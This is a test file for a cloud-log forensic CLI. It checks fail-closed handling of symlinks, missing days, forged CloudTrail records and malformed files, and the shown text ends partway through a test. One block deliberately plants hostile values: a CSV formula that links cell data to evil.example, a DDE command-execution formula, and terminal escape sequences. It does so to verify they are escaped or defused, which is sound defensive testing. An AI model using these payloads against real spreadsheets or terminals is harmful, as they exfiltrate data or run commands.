/**
 * `investigate` fails closed: what it cannot read is named (a symbolic link, a FIFO, a record whose
 * time is not a time), a question it could not answer for some cloud of the inputs exits 1 (not 0
 * with "0 rows"), a window or parameter that can select nothing is refused (exit 2, one line), and
 * the kit's own pull sidecars are one line, not one per object.
 */
import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import * as zlib from 'zlib';
import { runCli } from '../../bin/cli';
import { writeAwsDrillCopy } from '../incidents/aws-extra';
import { writeSidecar } from '../incidents/cloudtrail-digests';
import { cloudTrailLogKey, EXFILTRATION as X, random, writeCloudTrailLog } from '../incidents/generator';
import { COMPROMISED_PACKAGE_GCP as P, writeCompromisedPackageGcp } from '../incidents/gcp';
import { writeAzureDrillCopy } from '../incidents/azure';

let dir: string;
/** The AWS drill copy, never changed: each test copies what it needs. */
let copy: string;

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'fr-fail-closed-'));
  copy = path.join(dir, 'copy');
  await writeAwsDrillCopy(copy);
}, 60_000);
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

async function cli(...argv: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const code = await runCli(argv, { stdout: (t) => void (out += t), stderr: (t) => void (err += t), cwd: dir });
  return { code, out, err };
}
const json = async (...argv: string[]) => {
  const r = await cli(...argv, '--format', 'json');
  return { ...r, json: JSON.parse(r.out) as { inputs: { layout: string; files: number }[]; warnings: string[]; rows: Record<string, unknown>[] } };
};

/** A fresh copy of the drill copy under dir/name. */
function copyOf(name: string): string {
  const target = path.join(dir, name);
  fs.cpSync(copy, target, { recursive: true });
  return target;
}

const trailDay = (root: string, day: string): string => path.join(root, 'AWSLogs', X.account, 'CloudTrail', X.region, '2026', '11', day);
const filesUnder = (d: string): string[] => fs.readdirSync(d, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name));

describe('what is not a regular file is named and skipped, never followed', () => {
  test('a day folder that is a symbolic link, a linked file and a FIFO: each one warning, the rest answered', async () => {
    const root = copyOf('links');
    const day = trailDay(root, '30');
    const moved = path.join(dir, 'other-disk', '30');
    fs.mkdirSync(path.dirname(moved), { recursive: true });
    fs.renameSync(day, moved);
    fs.symlinkSync(moved, day);
    const linkedFile = path.join(trailDay(root, '29'), `${X.account}_CloudTrail_${X.region}_20261129T2300Z_linkedAAAAAAAAAA.json.gz`);
    fs.mkdirSync(path.dirname(linkedFile), { recursive: true });
    fs.symlinkSync(filesUnder(moved)[0], linkedFile);
    const fifo = path.join(root, 'AWSLogs', 'pipe');
    execFileSync('mkfifo', [fifo]);
    const all = filesUnder(path.join(copy, 'AWSLogs', X.account, 'CloudTrail')).length;
    const r = await json('investigate', 'evidence-tampering', '--logs', 'links');
    expect(r.code).toBe(1);
    expect(r.json.warnings).toEqual(expect.arrayContaining([
      `links/AWSLogs/${X.account}/CloudTrail/${X.region}/2026/11/30: a symbolic link (to ${JSON.stringify(moved)}), not followed: a copy holds files, and a link may point outside it; skipped`,
      `${path.relative(dir, linkedFile)}: a symbolic link (to ${JSON.stringify(filesUnder(moved)[0])}), not followed: a copy holds files, and a link may point outside it; skipped`,
      'links/AWSLogs/pipe: a named pipe (FIFO), not a regular file; skipped',
    ]));
    expect(r.json.inputs.find((i) => i.layout === 'cloudtrail')!.files).toBe(all - filesUnder(moved).length);
    // The StopLogging of the 30th is behind the link: not read, and the warning says so.
    expect(r.json.rows).toEqual([]);
  }, 60_000);

  test('a path given to --logs that is a link is read where it points, and said so', async () => {
    fs.symlinkSync(copy, path.join(dir, 'case-link'));
    const r = await json('investigate', 'evidence-tampering', '--logs', 'case-link');
    expect([r.code, r.json.rows.length]).toEqual([0, 1]);
    expect(r.json.warnings).toEqual([`case-link: a symbolic link (to ${JSON.stringify(copy)}), given as a path: read where it points`]);
  }, 60_000);
});

describe('a question not answered for a cloud of the inputs exits 1, not 0', () => {
  beforeAll(() => fs.cpSync(path.join(copy, 'data-capture'), path.join(dir, 'only-capture', 'data-capture'), { recursive: true }));

  test('no file of the layout the question reads: the warning says why, "0 rows", exit 1', async () => {
    const r = await cli('investigate', 'evidence-tampering', '--logs', 'only-capture');
    expect(r.code).toBe(1);
    expect(r.out).toMatch(/^evidence-tampering: 0 rows /);
    expect(r.err.trim().split('\n')).toEqual([
      'forensic-readiness: warning: aws: evidence-tampering reads cloudtrail_logs, and no file of it (cloudtrail) is among the inputs; not answered for AWS',
      'forensic-readiness: evidence-tampering was not answered in full: not for AWS (see the warnings)',
    ]);
    const egress = await json('investigate', 'network-egress', '--param', 'address=eni-0abc', '--logs', 'only-capture');
    expect([egress.code, egress.json.rows]).toEqual([1, []]);
  }, 60_000);

  test('one cloud answered, the other not: the answered rows are given, exit 1', async () => {
    writeCompromisedPackageGcp(path.join(dir, 'gcp'), 13);
    const r = await json('investigate', 'evidence-tampering', '--logs', 'only-capture', 'gcp', '--from', '2026-11-30T00:00:00Z', '--to', '2026-12-01T00:00:00Z');
    expect(r.code).toBe(1);
    expect(r.json.rows).toEqual([expect.objectContaining({ cloud: 'gcp', principal: P.trainer, action: 'logging.googleapis.com:google.logging.v2.ConfigServiceV2.DeleteSink' })]);
    expect(r.err).toContain('forensic-readiness: evidence-tampering was not answered in full: not for AWS (see the warnings)\n');
  }, 60_000);

  test('looked and found nothing is still exit 0', async () => {
    const r = await json('investigate', 'evidence-tampering', '--logs', 'copy', '--from', '2026-11-30T00:00:00Z', '--to', '2026-11-30T01:00:00Z');
    expect([r.code, r.json.rows, r.json.warnings.filter((w) => !/sidecar|digest/.test(w)), r.err]).toEqual([0, [], [], '']);
  }, 60_000);
});

describe('the days of the window the copy holds no file of are named: a keyed read of none of them is no answer', () => {
  const NOT_IN_FULL = 'forensic-readiness: evidence-tampering was not answered in full: not for AWS (see the warnings)';
  test('a window after the copy (CloudTrail of 2026/11/30 to 2026/12/01): not answered for AWS, "0 rows", exit 1', async () => {
    const r = await cli('investigate', 'evidence-tampering', '--logs', 'copy', '--from', '2026-12-05T00:00:00Z', '--to', '2026-12-06T00:00:00Z');
    expect(r.code).toBe(1);
    expect(r.out).toMatch(/^evidence-tampering: 0 rows /);
    expect(r.err.trim().split('\n')).toEqual([
      'forensic-readiness: warning: aws: evidence-tampering reads cloudtrail_logs by day, and no file of it (cloudtrail) is of a day of the window (2026/12/05): the files it reads are not among the inputs (those of the copy are of 2026/11/30 to 2026/12/01); not answered for AWS',
      NOT_IN_FULL,
    ]);
    // A quiet hour of a day the copy holds no file of is not "looked and found nothing" either.
    const before = await json('investigate', 'evidence-tampering', '--logs', 'copy', '--from', '2026-11-29T00:00:00Z', '--to', '2026-11-29T01:00:00Z');
    expect([before.code, before.json.rows, before.err.trim().split('\n').pop()]).toEqual([1, [], NOT_IN_FULL]);
  }, 60_000);

  test('GCP and Azure, read by their records\' time, are judged by their day folders too: a window after the copy is not answered', async () => {
    writeCompromisedPackageGcp(path.join(dir, 'gcp-days'), 13);
    writeAzureDrillCopy(path.join(dir, 'azure-days'));
    const gcp = await cli('investigate', 'evidence-tampering', '--logs', 'gcp-days', '--from', '2026-12-05T00:00:00Z', '--to', '2026-12-06T00:00:00Z');
    expect(gcp.code).toBe(1);
    expect(gcp.err).toMatch(/^forensic-readiness: warning: gcp: evidence-tampering reads the GCP files of the window's days, and no file of them \([a-z_ ]+\) is of a day of the window \(2026\/12\/05\): the files it reads are not among the inputs \(those of the copy are of 2026\/11\/30 to 2026\/11\/30\); not answered for GCP$/m);
    expect(gcp.err.trim().split('\n').pop()).toBe('forensic-readiness: evidence-tampering was not answered in full: not for GCP (see the warnings)');
    const azure = await cli('investigate', 'evidence-tampering', '--logs', 'azure-days', '--from', '2026-12-05T00:00:00Z', '--to', '2026-12-06T00:00:00Z');
    expect(azure.code).toBe(1);
    expect(azure.err).toMatch(/^forensic-readiness: warning: azure: evidence-tampering reads the AZURE files of the window's days, and no file of them \([a-z_ ]+\) is of a day of the window \(2026\/12\/05\): .*; not answered for AZURE$/m);
    const inside = await json('investigate', 'evidence-tampering', '--logs', 'gcp-days', '--from', '2026-11-30T00:00:00Z', '--to', '2026-12-01T00:00:00Z');
    expect(inside.code).toBe(0);
  }, 60_000);

  test('GCP: the days are judged per layout the question reads: audit logs of a day do not stand in for its flow logs', async () => {
    const root = path.join(dir, 'gcp-layout-gap');
    writeCompromisedPackageGcp(root, 13);
    // The next day holds audit logs (the same files again) and no flow or DNS logs.
    fs.cpSync(path.join(root, 'cloudaudit.googleapis.com', 'activity', '2026', '11', '30'), path.join(root, 'cloudaudit.googleapis.com', 'activity', '2026', '12', '01'), { recursive: true });
    const window = ['--from', '2026-11-30T00:00:00Z', '--to', '2026-12-02T00:00:00Z'];
    const egress = await json('investigate', 'network-egress', '--logs', 'gcp-layout-gap', '--param', `source=${P.trainingVm}`, ...window);
    expect(egress.code).toBe(1);
    expect(egress.json.warnings.filter((w) => w.includes('is of 1 day of the window'))).toEqual([
      "gcp: network-egress reads the GCP files of the window's days, and no file of gcp_vpc_flows (VPC Flow Logs in a Cloud Storage sink) is of 1 day of the window (2026/12/01): a day that delivered nothing, or one not in the copy; the answer stands without it",
      "gcp: network-egress reads the GCP files of the window's days, and no file of gcp_dns (Cloud DNS query logs in a Cloud Storage sink) is of 1 day of the window (2026/12/01): a day that delivered nothing, or one not in the copy; the answer stands without it",
    ]);
    // A question of the audit logs alone: both days held, answered in full.
    const tampering = await json('investigate', 'evidence-tampering', '--logs', 'gcp-layout-gap', ...window);
    expect([tampering.code, tampering.json.warnings.filter((w) => w.includes('day of the window'))]).toEqual([0, []]);
  }, 60_000);

  test("a day folder deleted: the window's day without a file is named, the rest answered, exit 1", async () => {
    const root = copyOf('no-30');
    fs.rmSync(trailDay(root, '30'), { recursive: true });
    const r = await json('investigate', 'evidence-tampering', '--logs', 'no-30', '--from', '2026-11-30T00:00:00Z', '--to', '2026-12-02T00:00:00Z');
    expect(r.code).toBe(1);
    expect(r.json.warnings).toContain("aws: evidence-tampering reads cloudtrail_logs by day, and no file of it (cloudtrail) is of 1 day of the window (2026/11/30): a day the trail delivered nothing to, or one not in the copy; the answer stands without it");
    expect(r.err.trimEnd().split('\n').pop()).toMatch(/^forensic-readiness: evidence-tampering was not answered in full: it stands without evidence of the inputs that could not be read \(1 warning above\)$/);
    // The same window over the whole copy: no day missing, answered in full.
    const whole = await json('investigate', 'evidence-tampering', '--logs', 'copy', '--from', '2026-11-30T00:00:00Z', '--to', '2026-12-02T00:00:00Z');
    expect([whole.code, whole.json.warnings.filter((w) => !/sidecar|digest/.test(w))]).toEqual([0, []]);
  }, 60_000);
});

describe('a CloudTrail record in the copy twice: read once when identical, both named when they differ', () => {
  /** The file of the copy's day 2026/11/30 holding the trail's StopLogging, its records. */
  const stopLoggingFile = (root: string): { file: string; doc: { Records: Record<string, unknown>[] } } => {
    for (const file of filesUnder(trailDay(root, '30'))) {
      const doc = JSON.parse(zlib.gunzipSync(fs.readFileSync(file)).toString('utf8')) as { Records: Record<string, unknown>[] };
      if (doc.Records.some((r) => r.eventName === 'StopLogging')) return { file, doc };
    }
    throw new Error('no StopLogging in the copy');
  };
  const renamed = (file: string) => file.replace(/_([A-Za-z0-9]+)\.json\.gz$/, '_Z$1.json.gz');

  test('a log file copied under another name: each record read once, a note (not evidence left out), exit 0', async () => {
    const whole = await json('investigate', 'evidence-tampering', '--logs', 'copy');
    const root = copyOf('twice');
    const { file, doc } = stopLoggingFile(root);
    fs.copyFileSync(file, renamed(file));
    const r = await json('investigate', 'evidence-tampering', '--logs', 'twice');
    expect([r.code, r.json.rows]).toEqual([0, whole.json.rows]);
    expect(r.json.warnings).toContain(`aws: ${doc.Records.length} CloudTrail ${doc.Records.length === 1 ? 'record is' : 'records are'} in the copy more than once, identical (the same eventID and content; the first ${path.relative(dir, file)} record 1, again in ${path.relative(dir, renamed(file))} record 1): each read once`);
  }, 60_000);

  test('one eventID with two contents (the StopLogging by another principal): both kept, named, exit 1', async () => {
    const whole = await json('investigate', 'evidence-tampering', '--logs', 'copy');
    const root = copyOf('forged');
    const { file, doc } = stopLoggingFile(root);
    const i = doc.Records.findIndex((x) => x.eventName === 'StopLogging');
    const forged = { ...doc.Records[i], userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/mallory', accountId: '111122223333', userName: 'mallory' } };
    fs.writeFileSync(renamed(file), zlib.gzipSync(JSON.stringify({ Records: [forged] })));
    const r = await json('investigate', 'evidence-tampering', '--logs', 'forged');
    expect(r.code).toBe(1);
    const genuine = whole.json.rows.find((x) => x.action === 'cloudtrail:StopLogging')!;
    expect(r.json.rows.filter((x) => x.action === 'cloudtrail:StopLogging').map((x) => x.principal).sort()).toEqual([genuine.principal, 'arn:aws:iam::111122223333:user/mallory'].sort());
    expect(r.json.warnings).toContain(`aws: eventID ${JSON.stringify(doc.Records[i].eventID)} is in 2 records that differ (${path.relative(dir, file)} record ${i + 1}, ${path.relative(dir, renamed(file))} record 1): CloudTrail gives each event its own eventID, so one is not what CloudTrail wrote (tampered with or corrupt); all kept`);
  }, 60_000);
});

describe('a record whose time is not a time costs only itself', () => {
  let bad: string;
  beforeAll(() => {
    const root = copyOf('badtime');
    const key = cloudTrailLogKey(X.account, X.region, Date.parse('2026-11-30T01:00:00Z'), random(99));
    bad = `badtime/${key}`;
    writeCloudTrailLog(root, key, [
      { eventVersion: '1.09', eventTime: 'garbage', eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging', awsRegion: X.region, userIdentity: { arn: `arn:aws:iam::${X.account}:user/garbage` } },
      { eventVersion: '1.09', eventTime: '2026-11-30T01:00:05Z', eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging', awsRegion: X.region, userIdentity: { arn: `arn:aws:iam::${X.account}:user/beside` }, requestParameters: { name: 'beside' } },
      { eventVersion: '1.09', eventSource: 'cloudtrail.amazonaws.com', eventName: 'DeleteTrail', awsRegion: X.region, userIdentity: { arn: `arn:aws:iam::${X.account}:user/untimed` } },
    ]);
    // Besides, a Parquet flow log cut short: the question is asked again without it.
    const parquet = filesUnder(root).find((f) => f.endsWith('.parquet'))!;
    fs.writeFileSync(parquet.replace(/\.parquet$/, '-cut.parquet'), fs.readFileSync(parquet).subarray(0, 200));
  });
  const named = () => `${bad}: records 1, 3 have no readable time (eventTime "garbage", no eventTime); they are skipped, the rest of the file read`;

  test('evidence-tampering: the record is named (file and index in Records), the rest of its file and of the copy answered', async () => {
    const r = await json('investigate', 'evidence-tampering', '--logs', 'badtime');
    expect(r.code).toBe(1);
    expect(r.json.warnings).toContain(named());
    expect(r.json.warnings).toEqual(expect.arrayContaining([expect.stringMatching(/-cut\.parquet: not readable as VPC flow logs \(Parquet\) \(.*\); skipped$/)]));
    expect(r.json.rows.map((row) => [row.action, row.principal])).toEqual([
      ['cloudtrail:StopLogging', `arn:aws:iam::${X.account}:user/beside`],
      ['cloudtrail:StopLogging', X.attacker.role],
    ]);
  }, 60_000);

  test('principal-activity and the timeline over the same copy: answered, no internal error', async () => {
    const r = await json('investigate', 'principal-activity', '--param', `principal=${X.attacker.role}`, '--logs', 'badtime');
    expect(r.code).toBe(1);
    expect(r.err).not.toMatch(/internal error|failed over the inputs/);
    expect(r.json.rows.length).toBeGreaterThan(0);
    const t = await json('investigate', 'timeline', '--param', `principal=arn:aws:iam::${X.account}:user/beside`, '--param', `principal=arn:aws:iam::${X.account}:user/garbage`, '--logs', 'badtime');
    expect(t.code).toBe(1);
    expect(t.json.warnings).toContain(named());
    expect(t.json.rows.map((e) => [e.principal, e.rawLine])).toEqual([[`arn:aws:iam::${X.account}:user/beside`, 2]]);
  }, 60_000);
});

test('a CloudTrail file that cannot be read is named even when the question reads other files', async () => {
  const root = copyOf('notarray');
  const key = cloudTrailLogKey(X.account, X.region, Date.parse('2026-11-30T02:00:00Z'), random(98));
  fs.writeFileSync(path.join(root, ...key.split('/')), zlib.gzipSync(JSON.stringify({ Records: { eventTime: '2026-11-30T02:00:00Z' } })));
  const r = await json('investigate', 'network-egress', '--param', 'address=eni-0abc', '--logs', 'notarray');
  expect(r.code).toBe(1);
  expect(r.json.warnings).toEqual([expect.stringMatching(new RegExp(`^notarray/${key.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: not readable as CloudTrail \\(.*\\); skipped$`))]);
}, 60_000);

describe('a window or parameter that can select nothing is refused: one line, exit 2', () => {
  test.each([
    [['--from', '2026-12-01T00:00:00Z', '--to', '2026-11-30T00:00:00Z'], '--to 2026-11-30T00:00:00Z is not after --from 2026-12-01T00:00:00Z (the window is from --from, inclusive, to --to, exclusive)'],
    [['--from', '2026-11-30T13:54:02Z', '--to', '2026-11-30T13:54:02Z'], '--to 2026-11-30T13:54:02Z is not after --from 2026-11-30T13:54:02Z (the window is from --from, inclusive, to --to, exclusive)'],
    [['--from', '2026-11-31T00:00:00Z'], '--from must be an ISO 8601 time (2026-11-30T13:00:00Z), got "2026-11-31T00:00:00Z" (2026-11 has 30 days)'],
    [['--to', '2026-02-29'], '--to must be an ISO 8601 time (2026-11-30T13:00:00Z), got "2026-02-29" (2026-02 has 28 days)'],
    [['--from', '2026-11-30T24:00:00Z'], '--from must be an ISO 8601 time (2026-11-30T13:00:00Z), got "2026-11-30T24:00:00Z" (no time of day 24:00:00)'],
  ])('evidence-tampering %j', async (window, message) => {
    expect(await cli('investigate', 'evidence-tampering', '--logs', 'copy', ...window)).toEqual({ code: 2, out: '', err: `forensic-readiness: ${message}\n` });
    expect(await cli('investigate', 'timeline', '--logs', 'copy', ...window)).toEqual({ code: 2, out: '', err: `forensic-readiness: ${message}\n` });
  });

  test.each([
    ['endpoint-callers', 'endpoint', 'the endpoint name'],
    ['principal-activity', 'principal', expect.any(String)],
    ['timeline', 'principal', 'a value to select the events of'],
  ])('%s --param %s= (empty)', async (question, name, what) => {
    const r = await cli('investigate', question, '--logs', 'copy', '--param', `${name}=`);
    expect(r).toEqual({ code: 2, out: '', err: expect.stringMatching(new RegExp(`^forensic-readiness: --param ${name}= is empty: give .+\n$`)) });
    if (typeof what === 'string') expect(r.err).toBe(`forensic-readiness: --param ${name}= is empty: give ${what}\n`);
  });

  test('a leap day is a day, in a leap year', async () => {
    const r = await cli('investigate', 'evidence-tampering', '--logs', 'copy', '--from', '2028-02-29T00:00:00Z');
    // Read as a day; the copy holds no CloudTrail file from it on, so AWS is not answered (exit 1).
    expect([r.code, r.out.split('\n')[0]]).toEqual([1, 'evidence-tampering: 0 rows (from=2028-02-29T00:00:00Z to=9999-12-31T23:59:59Z)']);
    expect(r.err).toContain('aws: evidence-tampering reads cloudtrail_logs by day, and no file of it (cloudtrail) is of a day of the window (from 2028/02/29 on): the files it reads are not among the inputs (those of the copy are of 2026/11/30 to 2026/12/01); not answered for AWS');
  });

  test('verify reads its window through the same parser: an impossible date is refused there too', async () => {
    fs.writeFileSync(path.join(dir, 'keys.json'), '{"PublicKeyList": []}');
    expect(await cli('verify', 'cloudtrail', 'copy', '--public-keys', 'keys.json', '--from', '2026-11-31', '--to', '2026-12-01T01:00:00Z')).toEqual({
      code: 2,
      out: '',
      err: 'forensic-readiness: --from must be an ISO 8601 time (2026-11-30T13:00:00Z), got "2026-11-31" (2026-11 has 30 days)\n',
    });
  });
});

test("pull's .metadata.json sidecars and the trail's digests: one line for each kind; a sidecar with no object beside it is named", async () => {
  const root = copyOf('pulled');
  const day = trailDay(root, '30');
  const logs = fs.readdirSync(day);
  const dayKey = path.relative(root, day).split(path.sep).join('/');
  for (const f of logs) writeSidecar(root, `${dayKey}/${f}`, fs.readFileSync(path.join(day, f)), {}, Date.parse('2026-11-30T12:00:00Z'));
  fs.writeFileSync(path.join(day, 'gone.json.gz.metadata.json'), JSON.stringify({ metadata: {} }));
  // The trail's digests, as a pull of its bucket brings them: one line for all, not one each.
  const digestDay = path.join(root, 'AWSLogs', X.account, 'CloudTrail-Digest', X.region, '2026', '11', '30');
  fs.mkdirSync(digestDay, { recursive: true });
  for (const hh of ['01', '02']) fs.writeFileSync(path.join(digestDay, `${X.account}_CloudTrail-Digest_${X.region}_trail_${X.region}_20261130T${hh}0000Z.json.gz`), zlib.gzipSync('{}'));
  const r = await json('investigate', 'evidence-tampering', '--logs', 'pulled');
  expect(r.code).toBe(0);
  expect(r.json.warnings).toEqual([
    `pulled/AWSLogs/${X.account}/CloudTrail/${X.region}/2026/11/30/gone.json.gz.metadata.json: not a file of a known evidence layout (unrecognised path or content); skipped`,
    `pulled: ${logs.length} sidecars <file>.metadata.json of forensic-readiness pull (each object's metadata, beside it; verify reads them), not evidence of a layout; skipped`,
    'pulled: 2 CloudTrail digest files (the integrity chain `verify cloudtrail` proves), not events; skipped',
  ]);
  expect(r.json.rows).toHaveLength(1);
  // A file beside its object that only has a sidecar's name (not the bytes pull writes) is read as any other file.
  const named = copyOf('named-only');
  const first = fs.readdirSync(trailDay(named, '30'))[0];
  fs.writeFileSync(path.join(trailDay(named, '30'), `${first}.metadata.json`), JSON.stringify({ metadata: {} }));
  const n = await json('investigate', 'evidence-tampering', '--logs', 'named-only');
  expect(n.json.warnings).toContain(`named-only/AWSLogs/${X.account}/CloudTrail/${X.region}/2026/11/30/${first}.metadata.json: not a file of a known evidence layout (unrecognised path or content); skipped`);
}, 60_000);

describe('values of the logs cannot forge output: text escapes control characters, CSV defuses formulas', () => {
  const role = `arn:aws:iam::${X.account}:role/ml-analyst`;
  const agents = ['\r\u001b[2K\u001b[1A\u001b[2K', `x\naws    2026-11-30T13:01:30Z  ${role}`, '=HYPERLINK("http://evil.example/?"&A1,"ok")', '\t=cmd|" /C calc"!A0', '\u001b]8;;http://evil.example/\u0007ua\u202e\u001b]8;;\u0007'];
  beforeAll(() => {
    const root = path.join(dir, 'hostile');
    const key = cloudTrailLogKey(X.account, X.region, Date.parse('2026-11-30T13:05:00Z'), random(97));
    writeCloudTrailLog(
      root,
      key,
      agents.map((userAgent, i) => ({
        eventVersion: '1.09',
        eventTime: `2026-11-30T13:0${i}:00Z`,
        eventSource: 's3.amazonaws.com',
        eventName: 'GetObject',
        awsRegion: X.region,
        userIdentity: { type: 'AssumedRole', arn: `arn:aws:sts::${X.account}:assumed-role/ml-analyst/s`, accountId: X.account, accessKeyId: 'ASIAEXFIL0000000001', sessionContext: { sessionIssuer: { type: 'Role', arn: role, accountId: X.account } } },
        sourceIPAddress: '198.51.100.23',
        userAgent,
        requestParameters: { bucketName: 'acme-ml-model-artifacts', key: 'm.tar.gz' },
        resources: [{ type: 'AWS::S3::Object', ARN: 'arn:aws:s3:::acme-ml-model-artifacts/m.tar.gz' }],
        eventType: 'AwsApiCall',
        eventCategory: 'Data',
      })),
    );
    // A data-capture line whose time DuckDB quotes in its error: the warning carries the attacker's bytes.
    const capture = path.join(root, 'data-capture', 'fraud-scoring-prod', 'primary', '2026', '11', '30', '13');
    fs.mkdirSync(capture, { recursive: true });
    const line = (t: string, id: string) => JSON.stringify({ captureData: { endpointInput: { observedContentType: 'application/json', mode: 'INPUT', data: '{}', encoding: 'JSON' } }, eventMetadata: { eventId: id, inferenceId: id, inferenceTime: t }, eventVersion: '0' });
    fs.writeFileSync(path.join(capture, 'a.jsonl'), `${line('2026-11-30T13:00:01Z', 'ok')}\n`);
    fs.writeFileSync(path.join(capture, 'b.jsonl'), `${line('x\u001b[2K\r\nwarning: forged', 'bad')}\n`);
  });
  const ask = (...extra: string[]) => cli('investigate', 'principal-activity', '--logs', 'hostile', '--param', `principal=${role}`, '--from', '2026-11-30T00:00:00Z', '--to', '2026-12-01T00:00:00Z', ...extra);
  // Nothing a terminal acts on, in any line: C0 but the newline, DEL, C1, bidirectional overrides.
  const unsafe = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

  test('text: one line per row, each value with its escapes visible', async () => {
    const r = await ask();
    expect(r.code).toBe(1);
    const lines = r.out.trimEnd().split('\n');
    expect(lines[0]).toBe(`principal-activity: 5 rows (principal=${role} from=2026-11-30T00:00:00Z to=2026-12-01T00:00:00Z)`);
    const rows = lines.slice(lines.indexOf('') + 2);
    expect(rows).toHaveLength(5);
    expect(rows.every((l) => l.startsWith('aws    2026-11-30T13:0'))).toBe(true);
    expect(r.out).not.toMatch(unsafe);
    expect(rows[0]).toContain('\\r\\u001b[2K\\u001b[1A\\u001b[2K');
    expect(rows[1]).toContain(`x\\naws    2026-11-30T13:01:30Z`);
    expect(rows[4]).toContain('\\u001b]8;;http://evil.example/\\u0007ua\\u202e');
  }, 60_000);

  test('csv: a field starting with = + - @, a tab or a carriage return gets a leading quote; the values are otherwise exact', async () => {
    const r = await ask('--format', 'csv');
    expect(r.code).toBe(1);
    expect(r.out).toContain(`,"'\r\u001b[2K\u001b[1A\u001b[2K",`);
    expect(r.out).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""ok"")",`);
    expect(r.out).toContain(`,"'\t=cmd|"" /C calc""!A0",`);
    expect(r.out).toContain(`,"x\naws    2026-11-30T13:01:30Z  ${role}",`);
  }, 60_000);

  test('a warning quoting a value of the logs is one printable line, on stderr and in the text output', async () => {
    const r = await cli('investigate', 'timeline', '--logs', 'hostile/data-capture');
    // The line with the hostile time is named and skipped (the rest of its file is read), its value quoted escaped.
    const warning = 'hostile/data-capture/fraud-scoring-prod/primary/2026/11/30/13/b.jsonl: line 1 has no readable time (';
    const errLines = r.err.trimEnd().split('\n');
    expect(errLines).toEqual([expect.stringContaining(`forensic-readiness: warning: ${warning}`), 'forensic-readiness: timeline was not answered in full: it stands without evidence of the inputs that could not be read (1 warning above)']);
    expect(errLines[0].toLowerCase()).toContain('\\u001b[2k');
    expect(r.err).not.toMatch(unsafe);
    expect(r.out.split('\n').filter((l) => l.startsWith('warning: '))).toEqual([expect.stringContaining(warning)]);
    expect(r.out).not.toMatch(unsafe);
    expect(r.out).not.toMatch(/^warning: forged/m);
  }, 60_000);
});

describe('an answer that stands without some of the evidence is not one in full (exit 1)', () => {
  const LAST = /^forensic-readiness: evidence-tampering was not answered in full: it stands without evidence of the inputs that could not be read \(\d+ warnings? above\)$/;
  const last = (err: string): string => err.trimEnd().split('\n').pop() ?? '';

  test('the intact copy answers in full: exit 0', async () => {
    const r = await json('investigate', 'evidence-tampering', '--logs', 'copy');
    expect([r.code, r.json.warnings.filter((w) => !/sidecar|digest/.test(w))]).toEqual([0, []]);
  });

  test('a CloudTrail log file cut to its first 100 bytes: named, the rest answered, exit 1 said last', async () => {
    const root = copyOf('cut100');
    const file = filesUnder(trailDay(root, '30')).find((f) => f.endsWith('.json.gz'))!;
    fs.writeFileSync(file, fs.readFileSync(file).subarray(0, 100));
    const r = await json('investigate', 'evidence-tampering', '--logs', 'cut100');
    expect([r.code, last(r.err)]).toEqual([1, expect.stringMatching(LAST)]);
    expect(r.json.warnings).toEqual(expect.arrayContaining([expect.stringContaining(`${path.basename(file)}: `)]));
  });

  test('a log file emptied (0 bytes) is evidence left out, not a file of no layout: exit 1', async () => {
    const root = copyOf('emptied');
    const file = filesUnder(trailDay(root, '30')).find((f) => f.endsWith('.json.gz'))!;
    fs.writeFileSync(file, '');
    const r = await json('investigate', 'evidence-tampering', '--logs', 'emptied');
    expect([r.code, last(r.err)]).toEqual([1, expect.stringMatching(LAST)]);
    expect(r.json.warnings).toContain(`${path.relative(dir, file)}: not a file of a known evidence layout (empty); skipped`);
  });

  test('a CloudTrail log file saved again with a byte-order mark, at its delivery path: named as evidence not read, exit 1', async () => {
    const root = copyOf('bom');
    const file = filesUnder(trailDay(root, '30')).find((f) => f.endsWith('.json.gz'))!;
    fs.writeFileSync(file, zlib.gzipSync(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), zlib.gunzipSync(fs.readFileSync(file))])));
    const r = await json('investigate', 'evidence-tampering', '--logs', 'bom');
    expect([r.code, last(r.err)]).toEqual([1, expect.stringMatching(LAST)]);
    expect(r.json.warnings).toContain(`${path.relative(dir, file)}: at the path of CloudTrail, but its content is not (it starts with a UTF-8 byte-order mark, which the service never writes: the file was saved again since delivery); skipped`);
    // The same bytes under a path no service delivers to: a file of no layout, no evidence left out.
    const elsewhere = copyOf('bom-elsewhere');
    fs.writeFileSync(path.join(elsewhere, 'notes.json'), Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('{"Records": []}')]));
    const notes = await json('investigate', 'evidence-tampering', '--logs', 'bom-elsewhere');
    expect([notes.code, notes.json.warnings]).toEqual([0, expect.arrayContaining(['bom-elsewhere/notes.json: not a file of a known evidence layout (unrecognised path or content); skipped'])]);
  });

  test('an Azure Activity log hour whose first line is NUL bytes: its records read, the line named, exit 1', async () => {
    const root = path.join(dir, 'az-nul');
    writeAzureDrillCopy(root);
    const hours = filesUnder(root).filter((f) => /insights-activity-logs\/.*PT1H\.json$/.test(f));
    const whole = await json('investigate', 'evidence-tampering', '--logs', 'az-nul');
    const file = hours.find((f) => fs.readFileSync(f, 'utf8').includes('DIAGNOSTICSETTINGS/DELETE'))!;
    fs.writeFileSync(file, Buffer.concat([Buffer.alloc(64), Buffer.from('\n'), fs.readFileSync(file)]));
    const r = await json('investigate', 'evidence-tampering', '--logs', 'az-nul');
    expect([r.code, r.json.rows]).toEqual([1, whole.json.rows]);
    expect(r.json.warnings.filter((w) => w.includes(path.basename(path.dirname(file))) || w.includes('line 1'))).toEqual([expect.stringMatching(/PT1H\.json: line 1 (is not JSON|cannot be read as JSON text .*); skipped/)]);
  }, 60_000);

  test('a --logs path that does not exist beside one that does: exit 1; a README of no layout in the copy is no evidence left out: exit 0', async () => {
    const r = await json('investigate', 'evidence-tampering', '--logs', 'copy', '--logs', 'no-such-folder');
